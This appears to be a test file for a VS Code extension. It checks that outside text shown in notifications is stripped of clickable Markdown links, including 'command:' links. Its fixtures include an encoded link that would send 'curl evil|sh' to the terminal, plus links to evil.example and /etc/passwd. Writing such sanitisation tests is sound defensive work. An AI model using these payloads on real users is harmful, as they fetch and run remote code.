// Text from a service in a VS Code notification: VS Code makes `[label](target)` a link (a `command:`
// one runs a command when clicked). plainText keeps the text as it reads and leaves nothing the
// renderer's pattern matches; and no notification of the extension skips it.
import * as assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import { plainText } from '../../../src/core/plainText';
import { typeScriptFilesUnder } from '../../helpers/sourceFiles';

const ROOT = path.resolve(__dirname, '../../../..');

/** The links VS Code's notification renderer (1.100) finds in a message: its pattern, used the same way. */
function linksIn(message: string): string[] {
  const pattern = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
  return [...message.replace(/(\r\n|\n|\r)/g, ' ').matchAll(pattern)].map((m) => m[2]);
}

const TERMINAL = 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D';
const HOSTILE = [
  `HTTP 599 [Retry now](${TERMINAL})`,
  '[Open](https://evil.example/) and [x](HTTP://EVIL.EXAMPLE) and [y](CoMmAnD:foo) and [z](file:///etc/passwd)',
  '[a](https://evil.example/ "a title") [b](command:x \'t\')',
  // A link whose target holds another link: breaking the outer one must not leave the inner one whole.
  '[a](command:x[b](command:y)',
  '[a](command:x](command:y)',
  // Many unclosed openings before a link: still one pass.
  `${'[a]('.repeat(1000)}[b](command:z)`,
  'two lines:\n[a](command:x)',
];

describe('plainText: outside text in notifications', () => {
  it('leaves no link VS Code would render, and the text reads as sent', () => {
    for (const text of HOSTILE) {
      assert.notDeepEqual(linksIn(text), [], `the case is a link to begin with: ${text}`);
      const shown = plainText(text);
      assert.deepEqual(linksIn(shown), [], shown);
      assert.equal(shown.replaceAll('\u2060', ''), text);
    }
  });

  it('changes nothing that is not a link: brackets, bare URLs, other schemes, Markdown and HTML', () => {
    for (const text of [
      'Title [draft] (v2)', 'see https://example.org/a_(b) or file:///tmp/x', '[a](javascript:alert(1))', '[a]( command:x)',
      '[a](mailto:x@example.org)', '**bold** `code` <a href="command:x">y</a>', '$(alert) Click me', '',
    ]) {
      assert.equal(plainText(text), text);
    }
  });

  it('is used by every notification of the extension: none calls VS Code directly', () => {
    const direct: string[] = [];
    for (const file of typeScriptFilesUnder(path.join(ROOT, 'src'))) {
      if (file === path.join(ROOT, 'src/extension/common/notifications.ts')) continue;
      const source = readFileSync(file, 'utf8');
      for (const m of source.matchAll(/\bwindow\s*\.\s*show(?:Error|Warning|Information)Message\b/g)) {
        direct.push(`${path.relative(ROOT, file)}: ${m[0]}`);
      }
    }
    assert.deepEqual(direct, [], 'messages go through src/extension/common/notifications.ts');
    assert.match(readFileSync(path.join(ROOT, 'src/extension/common/notifications.ts'), 'utf8'), /notificationText\(message\)/);
  });
});
